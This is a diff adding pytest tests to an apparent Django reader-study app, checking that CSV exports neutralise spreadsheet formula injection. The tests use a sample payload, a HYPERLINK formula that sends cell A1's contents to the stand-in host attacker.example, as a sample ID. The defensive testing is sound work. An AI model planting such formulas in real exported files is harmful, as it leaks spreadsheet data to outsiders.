@@ -242,3 +242,30 @@ def test_a_failed_import_command_says_nothing_was_imported(reading, tmp_path):
     path.write_text("participant,cohort,sample,class\npaper-1,novice,nope,1\n")
     with pytest.raises(CommandError, match="line 2, column 3 \\(sample\\).*Nothing was imported"):
         call_command("import_answers", reading.study.name, file=str(path))
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+
+
+def test_a_sample_id_that_would_start_a_formula_is_exported_as_text(reading, tmp_path):
+    expert = reading.participant
+    sample = expert.order()[0].sample
+    sample.source_id = FORMULA
+    sample.save()
+    path = tmp_path / "answers.csv"
+    export_answers(reading.study, path)
+    rows = [row for row in read_rows(path) if row["participant"] == "expert-01"]
+    assert rows[0]["sample"] == "'" + FORMULA
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+    assert float(rows[0]["active_seconds"]) == Answer.objects.get(participant=expert, item__sample=sample).active_seconds
+
+
+def test_an_export_with_neutralised_cells_imports_as_it_is(reading, second_study, tmp_path):
+    sample = reading.participant.order()[0].sample
+    sample.source_id = FORMULA
+    sample.save()
+    path = tmp_path / "answers.csv"
+    export_answers(reading.study, path)
+    import_answers(second_study, path)
+    imported = Answer.objects.get(participant__study=second_study, participant__pseudonym="expert-01", item__sample=sample)
+    assert imported.class_index == Answer.objects.get(participant=reading.participant, item__sample=sample).class_index
